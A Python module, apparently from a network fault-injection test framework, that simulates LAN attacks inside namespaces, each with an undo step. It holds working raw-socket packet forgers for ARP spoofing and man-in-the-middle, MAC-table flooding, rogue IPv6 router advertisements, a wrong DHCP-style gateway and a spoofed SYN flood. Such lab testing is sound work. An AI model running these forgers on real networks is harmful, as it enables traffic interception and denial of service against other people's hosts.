"""Machines that do harm on a segment, with or without intent."""
from . import NO_TABLES, Injected, fault
from .base import to_port

# A program in the namespace of a machine, ended by the undo: its lines tell what it sends.
SENDER = """python3 - {args} >/dev/null 2>&1 <<'P' &
import os, random, socket, struct, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
me = s.getsockname()[4]
mac = lambda t: bytes.fromhex(t.replace(":", ""))
ip = lambda t: bytes(map(int, t.split(".")))
ip6 = lambda t: socket.inet_pton(socket.AF_INET6, t)


def total(data):
    n = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    n = (n & 0xffff) + (n >> 16)
    return ~(n + (n >> 16)) & 0xffff


end = time.time() + 30
while time.time() < end:
{body}
P
true"""


def sends(where, body, *args):
    lines = "\n".join("    " + line for line in body.strip("\n").split("\n"))
    return (where, SENDER.format(args=" ".join(args), body=lines))


def stop(s, where):
    return (where, "for p in $(ip netns pids %s); do tr '\\0' ' ' </proc/$p/cmdline | grep -q '^python3 - ' && kill $p; done; true" % s.net.ns(where))


ARP_REPLY = """
s.send(mac(sys.argv[1]) + me + b"\\x08\\x06\\x00\\x01\\x08\\x00\\x06\\x04\\x00\\x02" + me + ip(sys.argv[2]) + mac(sys.argv[1]) + ip(sys.argv[3]))
time.sleep(0.05)
"""


@fault("arp-spoofing", needs=("guest", "spare"))
def black_hole(s):
    """The spare guest tells the peer that it is the victim."""
    if s.family == 6 or not s.ip or s.router or s.spare == s.peer:
        return None
    return Injected([sends(s.spare, ARP_REPLY, s.peer_mac, s.ip, s.peer_ip)],
                    undo=[stop(s, s.spare), (s.host, NO_TABLES), (s.peer_host, NO_TABLES), (s.peer, "ip neigh flush all")], where=s.spare, direction="to", settle=1.2)


@fault("arp-spoofing", needs=("guest", "spare"))
def in_the_middle(s):
    """It passes on what it takes."""
    if s.family == 6 or not s.ip or s.router or s.spare == s.peer:
        return None
    on, off = "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0", "sysctl -qw net.ipv4.ip_forward=0"
    return Injected([(s.spare, on), sends(s.spare, ARP_REPLY, s.peer_mac, s.ip, s.peer_ip)],
                    undo=[stop(s, s.spare), (s.spare, off), (s.host, NO_TABLES), (s.peer_host, NO_TABLES), (s.peer, "ip neigh flush all")], where=s.spare, settle=1.2)


# How many addresses a bridge may learn: older ip(8) cannot say it. RTM_NEWLINK with IFLA_LINKINFO { "bridge", { 49: number } }.
BOUND = """python3 - {bridge} {number} <<'P'
import socket, struct, sys
attr = lambda kind, data: struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)
data = attr(49, struct.pack("I", int(sys.argv[2])))
info = attr(18 | 0x8000, attr(1, b"bridge\\0") + attr(2 | 0x8000, data))
body = struct.pack("BxHiII", 0, 0, socket.if_nametoindex(sys.argv[1]), 0, 0) + info
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
s.send(struct.pack("IHHII", 16 + len(body), 16, 5, 1, 0) + body)
code = struct.unpack("i", s.recv(4096)[16:20])[0]
sys.exit(f"{{code}}" if code else 0)
P"""


def bound(s, number):
    return (s.host, BOUND.format(bridge=s.bridge, number=number))


NEW_MACS = """
for i in range(50):
    s.send(mac("ff:ff:ff:ff:ff:ff") + b"\\x02" + random.randbytes(5) + b"\\x88\\xb5" + bytes(46))
time.sleep(0.05)
"""


@fault("mac-flood-cam-exhaustion", needs=("guest", "bridge", "spare"))
def table_is_full(s):
    """A table of some size, a port that gets no frames for unknown addresses (as port security sets it), and somebody who fills the table."""
    if s.router or s.spare == s.peer:
        return None
    full = (f"sleep 0.4; bridge link set dev {s.port} flood off learning off; bridge fdb del {s.mac} dev {s.port} master; "
            f"sleep 0.2; bridge link set dev {s.port} learning on")  # its place is taken in between
    again = f"ip link set {s.bridge} type bridge fdb_flush; bridge link set dev {s.port} flood on; bridge link set dev {s.net.guests[s.spare].port} learning on"
    return Injected([bound(s, 60), sends(s.spare, NEW_MACS), (s.host, full)], undo=[stop(s, s.spare), bound(s, 0), (s.host, again)], where=s.host, cut=to_port(s), settle=0.6)


ADVERT = """
src, dst = ip6(sys.argv[1]), ip6("ff02::1")
ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + b"\\x01\\x01" + me
ra = ra[:2] + struct.pack("!H", total(src + dst + struct.pack("!II", len(ra), 58) + ra)) + ra[4:]
s.send(mac("33:33:00:00:00:01") + me + b"\\x86\\xdd" + struct.pack("!IHBB", 0x60000000, len(ra), 58, 255) + src + dst + ra)
time.sleep(0.2)
"""


@fault("rogue-dhcp-ra", needs=("guest", "router", "gateway", "spare"))
def router_advertisement(s):
    """The spare guest says that it is the router, and to be preferred."""
    if s.family == 4 or not s.gateway6 or s.spare == s.peer:
        return None
    local = s.net.run(s.spare, "ip -6 -br addr show dev eth0 scope link").split("/")[0].split()[-1]
    on = f"sysctl -qw net.ipv6.conf.all.forwarding=0 net.ipv6.conf.{s.dev}.forwarding=0 net.ipv6.conf.{s.dev}.accept_ra=1"
    off = f"sysctl -qw net.ipv6.conf.{s.dev}.accept_ra=0; ip -6 route flush dev {s.dev} proto ra; true"
    return Injected([(s.victim, on), sends(s.spare, ADVERT, local)], undo=[stop(s, s.spare), (s.victim, off), (s.host, NO_TABLES), s.put_back(s.victim)],
                    where=s.spare, settle=1.2)


@fault("rogue-dhcp-ra", needs=("guest", "router", "gateway", "spare"))
def lease_with_a_wrong_gateway(s):
    """What a DHCP client does with an offer that names the spare guest as the gateway."""
    if s.family == 6 or not s.gateway or s.spare == s.peer or s.plen > 30:
        return None
    wrong = s.net.guests[s.spare].ip
    return Injected([(s.victim, f"ip route del default; ip route add default via {wrong} dev {s.dev} proto dhcp")],
                    undo=[(s.victim, f"ip route replace default via {s.gateway} dev {s.dev}; ip route del default via {wrong} proto dhcp; true"), (s.host, NO_TABLES)],
                    where=s.spare, settle=0.6)


SYN = """
for i in range(20):
    src, dst = bytes([10, 99]) + random.randbytes(2), ip(sys.argv[2])
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), int(sys.argv[3]), random.getrandbits(32), 0, 0x50, 2, 65535, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", total(src + dst + struct.pack("!HH", 6, 20) + tcp)) + tcp[18:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, src, dst)
    s.send(mac(sys.argv[1]) + me + b"\\x08\\x00" + head[:10] + struct.pack("!H", total(head)) + head[12:] + tcp)
time.sleep(0.02)
"""


@fault("syn-or-packet-flood", needs="guest")
def half_open_connections(s):
    """Requests from addresses that never answer, to the service of the victim, which does without cookies."""
    flooder = next((n for n, g in s.net.guests.items() if n not in (s.victim, s.peer) and getattr(g, "bridge", "") == s.bridge), None)
    if s.family == 6 or not s.service or s.router or not flooder:
        return None
    return Injected([(s.victim, "sysctl -qw net.ipv4.tcp_syncookies=0"), sends(flooder, SYN, s.mac, s.ip, str(s.service))],
                    undo=[stop(s, flooder), (s.victim, "sysctl -qw net.ipv4.tcp_syncookies=1"), (s.host, NO_TABLES), (s.net.guests[flooder].host, NO_TABLES)],
                    where=s.victim, settle=1.5, args=("--service", str(s.service)))
